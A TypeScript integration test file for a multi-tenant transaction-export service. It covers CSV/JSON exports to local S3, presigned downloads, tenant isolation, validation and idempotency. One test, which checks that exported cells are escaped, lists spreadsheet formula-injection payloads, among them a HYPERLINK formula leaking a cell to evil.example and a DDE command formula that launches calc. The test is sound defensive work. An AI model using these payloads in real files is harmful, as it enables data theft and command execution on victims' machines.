import { GetCommand } from '@aws-sdk/lib-dynamodb';
import type { SQSEvent } from 'aws-lambda';
import { exportRoutes } from '../../../functions/transactions/export-routes.js';
import { LOCAL_EXPORT_BUCKET, startS3 } from '../../../infra/local/s3.js';
import type { LocalS3 } from '../../../infra/local/s3.js';
import { resetConfig } from '../../../shared/config/config.js';
import { EVENTS, queuesFor } from '../../../shared/domain/events.js';
import { createApi } from '../../../shared/http/pipeline.js';
import { exportsRuntime } from '../../../shared/runtime/exports.js';
import { ledgerRuntime } from '../../../shared/runtime/ledger.js';
import { creditAdjustment } from '../../../shared/usecases/ledger/credit-adjustment.js';
import type { SqsWorkerHandler } from '../../../shared/runtime/worker.js';
import { tenantsRuntime } from '../../../shared/runtime/tenants.js';
import { authRuntime } from '../../../shared/runtime/auth.js';
import { db, tableName } from '../../../shared/store/client.js';
import { exportsS3Client, s3ExportFiles } from '../../../shared/store/export-files.js';
import { keys } from '../../../shared/store/keys.js';
import { messageBody, outboxEventFromItem } from '../../../shared/store/outbox.js';
import { clientAuthFrom, issueToken } from '../../../shared/usecases/auth/issue-token.js';
import { createTenant } from '../../../shared/usecases/tenants/create-tenant.js';
import { EXPORT_COLUMNS } from '../../../shared/usecases/transactions/export-format.js';
import type { ExportsPorts } from '../../../shared/usecases/transactions/export-ports.js';
import type { TransactionRecord } from '../../../shared/usecases/transactions/ports.js';
import { presentTransaction } from '../../../shared/usecases/transactions/present.js';
import { parseCsv } from '../../support/csv.js';
import { startTestTable, type TestTable } from '../../support/dynamodb.js';
import { aTransaction, InMemoryTransactionHistory } from '../../support/fakes/transactions.js';
import { caller, tenantWithToken } from '../payments/support.js';

/**
 * Transaction exports on DynamoDB Local and the local S3 server (s3rver): requested through the route handler, written
 * by the worker from the queue message the event router would send, read back, and downloaded through the presigned
 * URL with a plain fetch. The history is the in-memory one (a few thousand records with awkward text), so the
 * file's content is known exactly.
 */
const ROWS = 3000;
const TYPES = ['payment', 'withdrawal', 'transfer', 'adjustment'] as const;

let table: TestTable;
let s3: LocalS3;
let a: { tenantId: string; bearer: string };
let b: { tenantId: string; bearer: string };
let call: ReturnType<typeof caller>;
let callB: ReturnType<typeof caller>;
let worker: SqsWorkerHandler;
/** The S3 operations the export files sent, by command name. */
const commands: string[] = [];
const records: TransactionRecord[] = [];
let history: InMemoryTransactionHistory;
let api: ReturnType<typeof createApi>;

beforeAll(async () => {
  table = await startTestTable();
  s3 = await startS3();
  Object.assign(process.env, { AWS_ENDPOINT_URL_S3: s3.url, EXPORT_BUCKET: LOCAL_EXPORT_BUCKET, AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true' });
  resetConfig();
  a = await tenantWithToken('Exports A');
  b = await tenantWithToken('Exports B');

  history = new InMemoryTransactionHistory();
  for (let i = 1; i <= ROWS; i++) {
    records.push(
      aTransaction(i, {
        type: TYPES[i % 4],
        status: i % 3 === 0 ? 'pending' : 'completed',
        amount: i % 500 === 0 ? `${i}234567890123456789.000000000000000001` : `${i}.${String(i * 7919).padStart(18, '0')}`,
        fee: i % 2 === 0 ? '0' : '0.000001',
        net_amount: `${i}.5`,
        // About 3 kB a row: the file outgrows one 8 MiB part, so it goes up in parts.
        order_id: i % 2 === 0 ? `order ${i}, "rush"\r\nsecond line é ✓ 𝄞` : null,
        custom_id: `${'c'.repeat(2900)}-${i}`,
      }),
    );
  }
  history.put(a.tenantId, ...records);

  const client = await exportsS3Client({ region: 'us-east-1', endpoint: s3.url });
  client.middlewareStack.add(
    (next, context) => async (args) => {
      commands.push(context.commandName ?? '?');
      return next(args);
    },
    { step: 'initialize', name: 'recordCommands' },
  );
  const deps: ExportsPorts = { ...exportsRuntime(), history, files: s3ExportFiles({ client, bucket: LOCAL_EXPORT_BUCKET }) };
  api = createApi(exportRoutes, deps);
  call = caller(api, () => a.bearer);
  callB = caller(api, () => b.bearer);
  // The worker's module wires the real runtime when imported: after the environment is set.
  const { exportWorker } = await import('../../../functions/transaction-exports/handler.js');
  worker = exportWorker(deps);
});

afterAll(async () => {
  await s3?.close();
  await table?.stop();
});

/** Delivers the export's event to the worker as the event router sends it, checked to be routed to transaction-exports. */
async function deliver(exportId: string): Promise<void> {
  const { Item } = await db().send(
    new GetCommand({ TableName: tableName(), Key: keys.outbox(`transaction_export:${exportId}:requested`), ConsistentRead: true }),
  );
  if (!Item) throw new Error(`no outbox event for export ${exportId}`);
  const event = outboxEventFromItem(Item);
  expect([event.type, queuesFor(event.type)]).toEqual([EVENTS.transactionExportRequested, ['transaction-exports']]);
  const record = { messageId: `m-${exportId}`, body: messageBody(event), attributes: { ApproximateReceiveCount: '1' } } as SQSEvent['Records'][number];
  expect((await worker({ Records: [record] } as SQSEvent)).batchItemFailures).toEqual([]);
}

const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);

describe('an export of a few thousand transactions', () => {
  it('is accepted at once, written by the worker in parts, and downloaded through the presigned URL, every id once and every amount exact', async () => {
    const requested = await call('POST', '/transactions/export/', { body: {} });
    expect(requested.status).toBe(202);
    expect(requested.body).toEqual({ export_id: expect.stringMatching(/^[0-9a-f-]{36}$/), status: 'pending', format: 'csv', created_at: expect.any(String) });
    const id: string = requested.body.export_id;
    expect((await call('GET', `/transactions/export/${id}/`)).body).toMatchObject({ status: 'pending', rows: 0, download_url: null, expires_at: null });

    await deliver(id);
    expect(commands).toEqual(['CreateMultipartUploadCommand', 'UploadPartCommand', 'UploadPartCommand', 'CompleteMultipartUploadCommand']);
    // The message again (a redelivery): the completed export is left as it is.
    await deliver(id);
    expect(commands).toHaveLength(4);

    const got = await call('GET', `/transactions/export/${id}/`);
    expect(got.status).toBe(200);
    expect(got.body).toMatchObject({ export_id: id, status: 'completed', format: 'csv', rows: ROWS, failure_reason: null, completed_at: expect.any(String) });
    expect(got.body.filters).toEqual({ type: null, status: null, currency: null, wallet_id: null, date_from: null, date_to: null });
    const url = new URL(got.body.download_url);
    expect(`${url.origin}${url.pathname}`).toBe(`${s3.url}/${LOCAL_EXPORT_BUCKET}/exports/${a.tenantId}/${id}.csv`);
    expect(url.searchParams.get('X-Amz-Expires')).toBe('900');
    expect(url.searchParams.get('X-Amz-Signature')).toMatch(/^[0-9a-f]{64}$/);
    const signedAt = Date.parse((url.searchParams.get('X-Amz-Date') ?? '').replace(/^(\d{4})(\d{2})(\d{2})T(\d{2})(\d{2})(\d{2})Z$/, '$1-$2-$3T$4:$5:$6Z'));
    expect(Date.parse(got.body.expires_at) - signedAt).toBe(900_000);

    const download = await fetch(got.body.download_url);
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(download.headers.get('content-disposition')).toBe(`attachment; filename="transactions-${id}.csv"`);
    const bytes = Buffer.from(await download.arrayBuffer());
    expect(bytes.length).toBe(got.body.bytes);
    expect(bytes.length).toBeGreaterThan(8 * 1024 * 1024);
    const [header, ...rows] = parseCsv(bytes.toString('utf8'));
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(ROWS);
    const byId = new Map(records.map((r) => [r.id, r]));
    const seen = new Set<string>();
    for (const row of rows) {
      const id = row[column('id')] ?? '';
      expect(seen.has(id)).toBe(false);
      seen.add(id);
      const record = byId.get(id);
      // As the list shows it: amounts spelled as the movement's own record spells them, never rounded.
      const shown = record ? presentTransaction(record) : undefined;
      expect(row).toEqual(EXPORT_COLUMNS.map((c) => shown?.[c] ?? ''));
    }
    expect(seen.size).toBe(ROWS);
    // Newest first.
    expect(rows[0]?.[column('id')]).toBe(records.at(-1)?.id);
  });

  it('writes JSON with the filters applied, as one object', async () => {
    const before = commands.length;
    const requested = await call('POST', '/transactions/export/', {
      body: { format: 'json', type: 'withdrawal', status: 'completed', date_to: '2026-01-01T00:20:00Z' },
    });
    expect(requested.status).toBe(202);
    await deliver(requested.body.export_id);
    expect(commands.slice(before)).toEqual(['PutObjectCommand']);
    const got = await call('GET', `/transactions/export/${requested.body.export_id}/`);
    const expected = records.filter((r) => r.type === 'withdrawal' && r.status === 'completed' && r.created_at <= '2026-01-01T00:20:00.000Z').reverse();
    expect(got.body).toMatchObject({
      status: 'completed',
      rows: expected.length,
      filters: { type: 'withdrawal', status: 'completed', date_to: '2026-01-01T00:20:00.000Z' },
    });
    const download = await fetch(got.body.download_url);
    expect(download.headers.get('content-type')).toMatch(/^application\/json/);
    const parsed = (await download.json()) as Record<string, unknown>[];
    expect(parsed).toEqual(expected.map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, presentTransaction(r)[c]]))));
  });
});

describe('an export opened in a spreadsheet', () => {
  it('holds no formula: text cells beginning with =, +, -, @, tab or CR are written with a single quote in front', async () => {
    const attacks = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', '-1+1', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+2', '\r=1+2'];
    const d = await tenantWithToken('Exports D');
    const callD = caller(api, () => d.bearer);
    history.put(d.tenantId, ...attacks.map((text, i) => aTransaction(i, { order_id: text, custom_id: text, subtype: text, amount: '5', fee: '0.1' })));
    const requested = await callD('POST', '/transactions/export/', { body: {} });
    expect(requested.status).toBe(202);
    await deliver(requested.body.export_id);
    const got = await callD('GET', `/transactions/export/${requested.body.export_id}/`);
    expect(got.body).toMatchObject({ status: 'completed', rows: attacks.length });
    const [, ...rows] = parseCsv(await (await fetch(got.body.download_url)).text());
    // Newest first: the last attack first.
    const expected = [...attacks].reverse().map((text) => [`'${text}`, `'${text}`, `'${text}`, '5.000000', '0.100000']);
    expect(rows.map((r) => ['order_id', 'custom_id', 'subtype', 'amount', 'fee'].map((c) => r[column(c as (typeof EXPORT_COLUMNS)[number])]))).toEqual(
      expected,
    );
  });
});

describe('the deployed wiring', () => {
  it("exports the tenant's real history (operator adjustments) through the worker Lambda's own runtime", async () => {
    const c = await tenantWithToken('Exports C');
    for (const amount of ['12.5', '0.000001', '99999999.123456']) {
      await creditAdjustment({ tenant_id: c.tenantId, currency: 'USDTERC20', amount, reason: 'export test, "quoted"' }, ledgerRuntime());
    }
    const callC = caller(createApi(exportRoutes, exportsRuntime()), () => c.bearer);
    const id = (await callC('POST', '/transactions/export/', { body: { type: 'adjustment' } })).body.export_id as string;
    const { handler } = await import('../../../functions/transaction-exports/handler.js');
    const { Item } = await db().send(new GetCommand({ TableName: tableName(), Key: keys.outbox(`transaction_export:${id}:requested`), ConsistentRead: true }));
    const record = { messageId: 'm-real', body: messageBody(outboxEventFromItem(Item ?? {})) } as SQSEvent['Records'][number];
    expect((await handler({ Records: [record] } as SQSEvent)).batchItemFailures).toEqual([]);
    const got = await callC('GET', `/transactions/export/${id}/`);
    expect(got.body).toMatchObject({ status: 'completed', rows: 3 });
    const [header, ...rows] = parseCsv(await (await fetch(got.body.download_url)).text());
    expect(header).toEqual([...EXPORT_COLUMNS]);
    // Newest first; adjustments made within one millisecond may come in either order, so compared as a set.
    expect(rows.map((r) => [r[column('type')], r[column('amount')], r[column('currency')]].join(' ')).sort()).toEqual([
      'adjustment 0.000001 USDTERC20',
      'adjustment 12.500000 USDTERC20',
      'adjustment 99999999.123456 USDTERC20',
    ]);
  });
});

describe('tenancy', () => {
  it("answers 404 for another tenant's export id, and writes each tenant's exports under its own key", async () => {
    const mine = (await call('POST', '/transactions/export/', { body: {} })).body.export_id as string;
    const foreign = await callB('GET', `/transactions/export/${mine}/`);
    expect([foreign.status, foreign.body.error.code]).toEqual([404, 'not_found']);
    expect((await callB('GET', '/transactions/export/00000000-0000-4000-8000-000000000000/')).status).toBe(404);
    expect((await callB('GET', '/transactions/export/not-an-id/')).status).toBe(404);

    const theirs = (await callB('POST', '/transactions/export/', { body: { format: 'csv' } })).body.export_id as string;
    await deliver(theirs);
    const got = await callB('GET', `/transactions/export/${theirs}/`);
    expect(got.body).toMatchObject({ status: 'completed', rows: 0 });
    expect(new URL(got.body.download_url).pathname).toBe(`/${LOCAL_EXPORT_BUCKET}/exports/${b.tenantId}/${theirs}.csv`);
    expect(parseCsv(await (await fetch(got.body.download_url)).text())).toEqual([[...EXPORT_COLUMNS]]);
    expect((await call('GET', `/transactions/export/${theirs}/`)).status).toBe(404);
  });
});

describe('requests', () => {
  it('refuses a bad filter with 400 invalid_request naming each field, and date_from after date_to naming date_to', async () => {
    const bad = await call('POST', '/transactions/export/', { body: { format: 'xml', type: 'deposit', currency: 'NOPE', wallet_id: 7, date_from: 'soon' } });
    expect([bad.status, bad.body.error.code]).toEqual([400, 'invalid_request']);
    expect(Object.keys(bad.body.error.details).sort()).toEqual(['currency', 'date_from', 'format', 'type', 'wallet_id']);
    const reversed = await call('POST', '/transactions/export/', { body: { date_from: '2026-02-01', date_to: '2026-01-31' } });
    expect([reversed.status, Object.keys(reversed.body.error.details)]).toEqual([400, ['date_to']]);
    const notJson = await call('POST', '/transactions/export/', { body: 'format=csv', headers: { 'content-type': 'text/plain' } });
    expect(notJson.status).toBe(415);
  });

  it('honours Idempotency-Key: the same request replays the first answer, another body is refused', async () => {
    const headers = { 'idempotency-key': 'export-once' };
    const first = await call('POST', '/transactions/export/', { body: { format: 'json' }, headers });
    const again = await call('POST', '/transactions/export/', { body: { format: 'json' }, headers });
    expect([first.status, again.status, again.headers['Idempotent-Replayed']]).toEqual([202, 202, 'true']);
    expect(again.body).toEqual(first.body);
    const other = await call('POST', '/transactions/export/', { body: { format: 'csv' }, headers });
    expect([other.status, other.body.error.code]).toEqual([422, 'idempotency_key_reused']);
  });

  it('reads with read, and requests only with read write', async () => {
    const made = await createTenant({ name: 'Exports read-only', scopes: ['read'] }, tenantsRuntime());
    const token = await issueToken(
      { grant_type: 'client_credentials' },
      clientAuthFrom(undefined, { client_id: made.clientId, client_secret: made.clientSecret }),
      new Date(),
      authRuntime(),
    );
    const reader = caller(createApi(exportRoutes, { ...exportsRuntime(), history: new InMemoryTransactionHistory() }), () => token.access_token);
    const refused = await reader('POST', '/transactions/export/', { body: {} });
    expect([refused.status, refused.body.error.code]).toEqual([403, 'permission_denied']);
    expect((await reader('GET', '/transactions/export/00000000-0000-4000-8000-000000000000/')).status).toBe(404);
  });
});
